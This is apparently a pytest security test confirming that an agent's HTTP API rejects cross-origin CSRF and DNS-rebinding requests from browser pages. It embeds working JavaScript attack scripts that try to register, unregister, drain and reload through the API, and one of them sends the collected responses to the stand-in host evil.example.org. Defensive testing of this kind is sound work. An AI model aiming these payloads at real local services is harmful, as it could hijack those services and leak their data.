"""Web pages in a real browser that try to change something over the API, in the name of whoever looks
at them: from another origin, and by a name that is rebound to this host."""

import re
from collections.abc import Iterator
from typing import Any

import pytest

from .agent import Agent
from .browser import Browser, Pages
from .configs import VIP4, VIP6, app, config
from .testbed import Testbed
from .wait import wait_until

PEER = {"peer_ip": "10.0.1.1", "peer_as": 65000}
PORT = 8080
WEB_PORT = 8000
HOST = "10.0.1.2"
EVIL = "evil.example.org"
REBOUND = "rebound.example.org"
REGISTER = f"/register?name=evil&vip={VIP6}"

# Each ends when the browser has had an answer, of whatever kind: a page of another origin is not
# shown it.
_ATTACKS = """
const api = "http://%(target)s";
const gets = ["%(register)s", "/unregister?name=web"];
const ended = [];
function element(tag, set) {
  return new Promise(resolve => {
    const e = document.createElement(tag);
    e.onload = e.onerror = () => resolve();
    Object.assign(e, set);
    document.body.appendChild(e);
  });
}
function form(method, action, enctype) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.appendChild(frame);
    const f = document.createElement("form");
    Object.assign(f, {method, action, enctype, target: frame.name});
    for (const [name, value] of new URL(action).searchParams) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      f.appendChild(input);
    }
    document.body.appendChild(f);
    frame.onload = () => resolve();
    f.submit();
  });
}
async function ask(path, options) {
  try { await fetch(path, options); } catch (e) {}
}
async function attempt(name, promise) { await promise; ended.push(name); }
async function attacks() {
  for (const path of gets) {
    await attempt("img", element("img", {src: api + path}));
    await attempt("script", element("script", {src: api + path}));
    await attempt("style", element("link", {rel: "stylesheet", href: api + path}));
    await attempt("frame", element("iframe", {src: api + path}));
    await attempt("fetch", ask(api + path, {mode: "no-cors", credentials: "include"}));
    await attempt("cors", ask(api + path));
    await attempt("form GET", form("GET", api + path));
    await attempt("form POST", form("POST", api + path, "text/plain"));
    await attempt("fetch POST", ask(api + path, {method: "POST", mode: "no-cors", body: "x"}));
  }
  for (const number of [0, 1]) {
    await attempt("redirect", ask("/redirect/" + number, {mode: "no-cors"}));
    await attempt("redirected img", element("img", {src: "/redirect/" + number}));
    await attempt("redirected POST",
                  ask("/redirect/" + number, {method: "POST", mode: "no-cors", body: "x"}));
  }
  for (const path of ["/v1/drain", "/v1/apps/web/drain", "/v1/reload", "/v1/log?level=error"]) {
    await attempt("fetch POST " + path, ask(api + path, {method: "POST", mode: "no-cors", body: ""}));
    await attempt("form POST " + path, form("POST", api + path, "text/plain"));
    await attempt("PUT " + path, ask(api + path, {method: "PUT"}));
    navigator.sendBeacon(api + path, "x");
  }
  await attempt("no referrer", ask(api + gets[0], {mode: "no-cors", referrerPolicy: "no-referrer"}));
  const inner = `<body><script>fetch("${api}${gets[0]}", {mode: "no-cors"})` +
    `.finally(() => parent.postMessage("ended", "*"))</` + `script></body>`;
  // It is loaded before its request has ended, which would end with the page.
  const told = new Promise(resolve => addEventListener("message", resolve));
  element("iframe", {sandbox: "allow-scripts", srcdoc: inner});
  await attempt("sandboxed", told);
  await fetch("/report", {method: "POST", body: JSON.stringify(ended)});
  location.href = api + gets[0];
}
attacks();
"""

# Loaded before its name leads to the agent; then of the agent's own origin.
_REBINDING = """
async function ask(method, path, headers) {
  const answer = await fetch(path, {method, headers, body: method == "POST" ? "x" : undefined});
  return [method + " " + path, answer.status, await answer.text()];
}
async function rebound() {
  for (;;) {
    try {
      const answer = await fetch("/ping", {cache: "no-store"});
      if ((await answer.text()).startsWith("I-AM-ALIVE")) return;
    } catch (e) {}
    await new Promise(resolve => setTimeout(resolve, 50));
  }
}
async function attacks() {
  await rebound();
  const said = [];
  for (const path of ["%(register)s", "/unregister?name=web"])
    for (const method of ["GET", "POST", "PUT", "DELETE"])
      said.push(await ask(method, path, {}));
  for (const path of ["/v1/drain", "/v1/apps/web/drain", "/v1/reload", "/v1/log?level=error"])
    said.push(await ask("POST", path, {}));
  said.push(await ask("GET", "%(register)s", {"X-Requested-With": "XMLHttpRequest"}));
  await fetch("http://%(evil)s/report", {method: "POST", body: JSON.stringify(said)});
}
attacks();
"""


def page(script: str, **values: str) -> str:
    return f"<!DOCTYPE html><html><body><script>{script % values}</script></body></html>"


def start(bed: Testbed, **api: Any) -> Agent:
    options = {"listen_addr": f":{PORT}", "api": api, "log": {"level": "debug"}}
    agent = bed.start_agent(config(PEER, apps=(app("web", VIP4),), agent=options))
    wait_until(lambda: agent.app("web")["state"] == "up", "the app is up")
    return agent


def expect_untouched(agent: Agent) -> None:
    status = agent.admin("/v1/status").json()
    assert status["drain"] is None and status["config"]["last_reload"] is None
    assert [a["name"] for a in agent.admin("/v1/apps").json()["apps"]] == ["web"]
    web = agent.admin("/v1/apps/web").json()
    assert web["state"] == "up" and web["drain"] is None


def answers(agent: Agent, request: str) -> list[str]:
    """The statuses that such requests were answered with, from the log at level debug."""
    return re.findall(rf"api: {re.escape(request)}(?: by .*)?: (\d+)$", agent.log, re.MULTILINE)


@pytest.fixture
def servers() -> Iterator[list[Pages]]:
    opened: list[Pages] = []
    yield opened
    for server in opened:
        server.close()


@pytest.mark.parametrize(
    ("where", "target"),
    [
        ("host", f"127.0.0.1:{PORT}"),
        ("host", f"localhost:{PORT}"),
        ("host", f"{HOST}:{PORT}"),
        ("far", f"{HOST}:{PORT}"),
    ],
)
def test_a_page_of_another_origin(
    bed: Testbed, servers: list[Pages], where: str, target: str
) -> None:
    """The browser is on this host, or on one that may change things by its address."""
    far = bed.link().namespace
    agent = start(bed, remote="admin", local="admin")
    namespace = bed.host if where == "host" else far
    redirects = [f"http://{target}{path}" for path in (REGISTER, "/unregister?name=web")]
    attacks = page(_ATTACKS, target=target, register=REGISTER)
    pages = Pages(namespace, WEB_PORT, {"/": attacks}, redirects)
    servers.append(pages)
    Browser(namespace, f"http://{EVIL}:{WEB_PORT}/")
    ended = pages.wait_report()
    assert len(ended) == 38, ended
    # All reached the agent, and the last one, by which the page itself is left, does too.
    wait_until(lambda: len(answers(agent, "GET /register")) == 12, "every GET has come")
    wait_until(lambda: len(answers(agent, "POST /v1/drain")) == 3, "every POST has come")
    assert set(answers(agent, "GET /register")) == {"403"}
    assert set(answers(agent, "POST /register")) == {"403"}
    assert set(answers(agent, "GET /unregister") + answers(agent, "POST /unregister")) == {"403"}
    for path in ("/v1/drain", "/v1/apps/web/drain", "/v1/reload", "/v1/log"):
        assert set(answers(agent, f"POST {path}")) == {"403"}
        assert answers(agent, f"PUT {path}") == []  # the browser asked for leave, and got none
    # To another address than loopback, by plain HTTP, an image has nothing but a Referer.
    why = f"(cross-site|http://{EVIL}:{WEB_PORT}/?); agent.api.origins"
    agent.wait_log(f"WARN.* refused: a web page of another origin may change nothing: {why}")
    expect_untouched(agent)


def test_a_name_that_is_rebound(bed: Testbed, servers: list[Pages]) -> None:
    """The page was loaded while the name led to the attacker's server; now it is the agent's. The
    browser takes both for the same origin and sends no sign of another one."""
    bed.link()
    evil = f"{EVIL}:{WEB_PORT}"
    attacker = Pages(bed.host, PORT, {"/": page(_REBINDING, register=REGISTER, evil=evil), "/ping": "loaded"})
    collector = Pages(bed.host, WEB_PORT, {})
    servers.append(collector)
    browser = Browser(bed.host, f"http://{REBOUND}:{PORT}/")
    wait_until(lambda: "/ping" in attacker.asked, "the page was loaded and asks", timeout=60)
    assert browser.process.running
    attacker.close()
    agent = start(bed, local="admin")
    said = collector.wait_report()
    assert len(said) == 13
    for request, status, text in said:
        assert status == 403, (request, status, text)
        assert f"{REBOUND}:{PORT}; agent.api.hosts" in text, (request, text)
    agent.wait_log(rf"WARN.*the name in Host is not known: {REBOUND}:{PORT}")
    expect_untouched(agent)
